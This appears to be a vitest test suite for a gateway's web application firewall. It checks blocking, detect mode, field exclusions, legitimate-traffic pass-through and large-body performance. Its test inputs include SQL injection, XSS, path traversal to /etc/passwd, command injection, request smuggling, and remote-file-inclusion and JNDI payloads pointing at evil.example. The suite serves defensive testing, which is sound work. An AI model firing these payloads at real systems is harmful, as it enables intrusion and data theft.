import { connect } from 'node:net'
import { monitorEventLoopDelay } from 'node:perf_hooks'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { buildRequest, placements, toRawHttp, type CorpusRequest, type Placement } from '../src/policies/waf/corpus/requests.js'
import { startTestGateway, type TestGateway } from '../src/testing/start-gateway.js'
import { startUpstream, type TestUpstream } from '../src/testing/start-upstream.js'

interface RawResponse {
  status: number
  headers: Record<string, string>
  body: string
}

/**
 * Writes bytes exactly as given on a fresh connection and reads the whole answer; the request says
 * `connection: close`, so the server ends the socket. (We do not half-close: the gateway treats a
 * client FIN before the answer as a client that went away.)
 */
function sendRaw(port: number, raw: string | Buffer): Promise<RawResponse> {
  return new Promise((resolve, reject) => {
    const socket = connect(port, '127.0.0.1')
    const chunks: Buffer[] = []
    socket.on('data', (c: Buffer) => chunks.push(c))
    socket.on('error', reject)
    socket.on('end', () => {
      const text = Buffer.concat(chunks).toString('utf8')
      const split = text.indexOf('\r\n\r\n')
      const head = text.slice(0, split).split('\r\n')
      const headers: Record<string, string> = {}
      for (const line of head.slice(1)) {
        const colon = line.indexOf(':')
        headers[line.slice(0, colon).toLowerCase()] = line.slice(colon + 1).trim()
      }
      let body = text.slice(split + 4)
      if (headers['transfer-encoding'] === 'chunked') body = dechunk(body)
      resolve({ status: Number(head[0].split(' ')[1]), headers, body })
    })
    socket.write(raw)
  })
}

function dechunk(text: string): string {
  let out = ''
  let i = 0
  while (i < text.length) {
    const eol = text.indexOf('\r\n', i)
    const size = parseInt(text.slice(i, eol), 16)
    if (!size) break
    out += text.slice(eol + 2, eol + 2 + size)
    i = eol + 2 + size + 2
  }
  return out
}

const config = (upstreamUrl: string) => `
explain: public
upstreams: { app: { targets: [ "${upstreamUrl}" ] } }
routes:
  - name: detect
    match: { path: /detect/* }
    upstream: app
    policies:
      waf: { mode: detect }
  - name: excluded
    match: { path: /excluded/* }
    upstream: app
    policies:
      waf: { exclusions: [ { rules: [ sqli ], fields: [ json.order.query ] } ] }
  - name: app
    match: { path: /api/* }
    upstream: app
    policies:
      body: { maxBytes: 2097152 }
      waf: { mode: block, paranoia: 1 }
`

// One representative payload per family, placed in every location below.
const familyPayloads: [string, string, string][] = [
  ['sqli', 'id', "1' UNION SELECT username, password FROM users--"],
  ['xss', 'q', '<svg/onload=alert(document.domain)>'],
  ['lfi', 'file', '../../../../etc/passwd'],
  ['rfi', 'page', 'http://evil.example/shell.txt?'],
  ['rce', 'host', '127.0.0.1; cat /etc/passwd'],
  ['code-injection', 'data', '${jndi:ldap://evil.example/a}'],
]

describe('WAF through a real gateway over raw sockets', () => {
  let upstream: TestUpstream
  let gateway: TestGateway
  let port: number
  const send = (request: CorpusRequest) => sendRaw(port, toRawHttp(request, `127.0.0.1:${port}`))

  beforeAll(async () => {
    upstream = await startUpstream()
    gateway = await startTestGateway(config(upstream.url))
    port = Number(new URL(gateway.url).port)
  })
  afterAll(async () => {
    await gateway?.close(100)
    await upstream?.close()
  })

  const cases = familyPayloads.flatMap(([family, param, payload]) =>
    placements.filter((p) => p !== 'path').map((placement) => [family, placement, param, payload] as [string, Placement, string, string]),
  )
  it.each(cases)('blocks %s in %s', async (family, placement, param, payload) => {
    const before = upstream.requests.length
    const res = await send(buildRequest(placement, param, payload))
    expect(res.status).toBe(403)
    expect(res.headers['gatehouse-decision']).toMatch(/^waf;rule=/)
    expect(res.headers['content-type']).toContain('application/problem+json')
    expect(upstream.requests.length).toBe(before)
    if (!['user-agent', 'referer'].includes(placement)) expect(res.headers['gatehouse-decision']).toBe(`waf;rule=${family}`)
  })

  it.each(familyPayloads)('never forwards %s in the path', async (_family, _param, payload) => {
    const before = upstream.requests.length
    const res = await send(buildRequest('path', 'p', payload))
    expect([400, 403, 404]).toContain(res.status)
    expect(upstream.requests.length).toBe(before)
  })

  it('blocks protocol anomalies: NUL bytes, overlong UTF-8, smuggled requests', async () => {
    const host = `127.0.0.1:${port}`
    for (const target of ['/api/files?name=report.pdf%00.jpg', '/api/files?name=%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd']) {
      const res = await sendRaw(port, `GET ${target} HTTP/1.1\r\nhost: ${host}\r\nconnection: close\r\n\r\n`)
      expect(res.status).toBe(403)
      expect(res.headers['gatehouse-decision']).toMatch(/^waf;rule=(protocol|lfi)$/)
    }
    const smuggled = 'x=1\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal\r\n\r\n'
    const res = await sendRaw(port, `POST /api/form HTTP/1.1\r\nhost: ${host}\r\ncontent-type: text/plain\r\ncontent-length: ${smuggled.length}\r\nconnection: close\r\n\r\n${smuggled}`)
    expect(res.status).toBe(403)
    expect(res.headers['gatehouse-decision']).toBe('waf;rule=protocol')
  })

  it('lets ordinary and tricky legitimate requests through to the upstream', async () => {
    const values: [Placement, string, string][] = [
      ['query', 'q', 'red shoes size 10'],
      ['json', 'name', "Miles O'Brien"],
      ['json', 'address', '12 Select Court'],
      ['form', 'comment', "I'll update my order and select a new size -- thanks! Prices $5 & up"],
      ['query', 'q', 'javascript: the good parts'],
      ['xml', 'note', 'math: 1<2 and 3>2'],
      ['multipart', 'bio', "C'est l'été; j'aime ça"],
      ['cookie', 'lang', 'fr-FR'],
      ['json', 'image', 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='],
    ]
    for (const [placement, param, value] of values) {
      const res = await send(buildRequest(placement, param, value))
      expect(res.status, `${placement} ${value}`).toBe(200)
      expect(res.headers['gatehouse-decision']).toBe('allow')
    }
  })

  it('shows callers nothing of the pattern or value, and stores the whole match in the trace', async () => {
    const payload = "1' UNION SELECT card_number FROM payments--"
    const res = await send(buildRequest('json', 'query', payload))
    expect(res.status).toBe(403)
    const problem = JSON.parse(res.body) as Record<string, unknown>
    expect(problem).toMatchObject({ status: 403, layer: 'waf', rule: 'sqli' })
    expect(res.body).not.toMatch(/UNION|card_number|payments|sqli-0|json\.order/)
    const requestId = res.headers['x-request-id']
    await gateway.store!.flush()
    const record = await gateway.store!.get(requestId)
    const entry = record!.trail.find((e) => e.layer === 'waf')!
    expect(entry.result).toBe('deny')
    const matches = (entry.detail as { matches: Record<string, unknown>[] }).matches
    expect(matches[0]).toMatchObject({ family: 'sqli', paranoia: 1, field: 'json.order.query' })
    expect(String(matches[0].rule)).toMatch(/^sqli-\d{3}$/)
    expect(matches[0].exclusion).toBe(`{ rules: [${String(matches[0].rule)}], fields: [json.order.query] }`)
  })

  it('in detect mode forwards the request and records what it would have blocked', async () => {
    const request = { ...buildRequest('query', 'file', '../../../../etc/passwd'), url: '/detect/read?file=../../../../etc/passwd' }
    const res = await send(request)
    expect(res.status).toBe(200)
    await gateway.store!.flush()
    const record = await gateway.store!.get(res.headers['x-request-id'])
    const entry = record!.trail.find((e) => e.layer === 'waf')!
    expect(entry).toMatchObject({ result: 'detect', rule: 'waf.lfi' })
  })

  it('applies an exclusion to its field only', async () => {
    const injected = "x' OR '1'='1"
    const allowed = await send({ ...buildRequest('json', 'query', injected), url: '/excluded/search' })
    expect(allowed.status).toBe(200)
    const blocked = await send({ ...buildRequest('json', 'other', injected), url: '/excluded/search' })
    expect(blocked.status).toBe(403)
  })

  it('inspects a 1 MB body quickly without stalling the event loop', async () => {
    const items = Array.from({ length: 16000 }, (_, i) => ({ sku: `SKU-${i}`, note: "customer's note: size M, colour blue" }))
    const body = JSON.stringify({ items })
    expect(body.length).toBeGreaterThan(1_000_000)
    const request: CorpusRequest = { method: 'POST', url: '/api/bulk', headers: { 'content-type': 'application/json' }, body }
    const histogram = monitorEventLoopDelay({ resolution: 10 })
    histogram.enable()
    const started = performance.now()
    const res = await send(request)
    const elapsed = performance.now() - started
    histogram.disable()
    expect(res.status).toBe(200)
    // Generous bounds: the suite shares 2 cores with other test files. The WAF inspects at most
    // 1 MiB with a per-run engine timeout, so a stall would show as seconds, not milliseconds.
    expect(elapsed).toBeLessThan(10_000)
    expect(histogram.max / 1e6).toBeLessThan(1000)
  })
})
